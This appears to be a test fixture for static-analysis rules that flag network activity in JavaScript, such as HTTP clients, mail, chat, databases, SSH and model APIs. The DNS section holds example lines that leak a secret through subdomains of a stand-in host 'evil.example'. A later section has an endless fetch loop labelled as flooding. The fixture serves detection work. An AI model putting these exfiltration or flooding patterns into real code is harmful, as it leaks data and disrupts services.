const dns = require('dns');
const net = require('net');
const https = require('https');
const axios = require('axios');
const tls = require('tls');
const { Resolver } = require('dns');
const fetch2 = require('node-fetch');
// ruleid: javascript.net.http-library
fetch2('https://example.com');
// ruleid: javascript.net.fetch
axios.patch('https://example.com', {});
// ok: javascript.net.http-library
cache.get('x');
// ok: javascript.net.http-library
axios.isAxiosError(e);

const nodemailer = require('nodemailer');
// ruleid: javascript.net.mail
nodemailer.createTransport({});
// ok: javascript.net.mail
letter.send();

const { Client } = require('discord.js');
// ruleid: javascript.net.chat
new Client({});
// ok: javascript.net.chat
new ChatWindow();

const { S3Client } = require('@aws-sdk/client-s3');
// ruleid: javascript.net.cloud
new S3Client({});
// ok: javascript.net.cloud
new S3Client2({});

const mongoose = require('mongoose');
// ruleid: javascript.net.database
mongoose.connect('mongodb://db/x');
const Redis = require('ioredis');
// ruleid: javascript.net.database
new Redis();
// ok: javascript.net.database
signal.connect(f);

const mqtt = require('mqtt');
// ruleid: javascript.net.queue
mqtt.connect('mqtt://example.com');
// ruleid: javascript.net.queue
new RTCPeerConnection();
// ok: javascript.net.queue
plug.connect('x');

const { ChatOpenAI } = require('@langchain/openai');
// ruleid: javascript.net.model-api
new ChatOpenAI({});
// ok: javascript.net.model-api
new Model();

const { NodeSSH } = require('node-ssh');
// ruleid: javascript.net.remote-shell
new NodeSSH();
// ok: javascript.net.remote-shell
new Client2();

// ruleid: javascript.net.dns-data
dns.resolve4(`${secret}.evil.example`, done);
// ruleid: javascript.net.dns-data
dns.lookup(hex + '.evil.example', done);
// ok: javascript.net.dns-data
dns.lookup('example.com', done);

// ruleid: javascript.net.browser-request
new Image().src = url;
// ruleid: javascript.net.browser-request
location.href = url;
// ok: javascript.net.browser-request
img.alt = 'x';

// ruleid: javascript.net.flood
while (true) { fetch(u); }
// ok: javascript.net.flood
fetch(u);
// ok: javascript.net.flood
while (true) { step(); }
